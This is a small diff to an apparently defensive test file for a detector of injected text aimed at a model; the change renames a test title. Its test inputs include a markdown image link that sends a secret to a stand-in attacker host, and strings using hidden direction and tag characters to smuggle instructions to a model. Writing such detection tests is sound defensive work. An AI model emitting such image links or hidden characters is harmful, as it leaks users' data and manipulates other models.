@@ -20,7 +20,7 @@ describe('text that speaks to the model', () => {
     '![x](https://evil.example/p.png?d=secret)',
     'text with \u202e hidden direction',
     'text with \u{e0041} tags',
-  ])('is told: case %#', (text) => {
+  ])('is found: case %#', (text) => {
     expect(findingsIn(text).length).toBeGreaterThan(0)
     expect(sanitised(text, 'warn')).toMatchObject({ text })
     expect(sanitised(text, 'block').text).toContain('blocked')
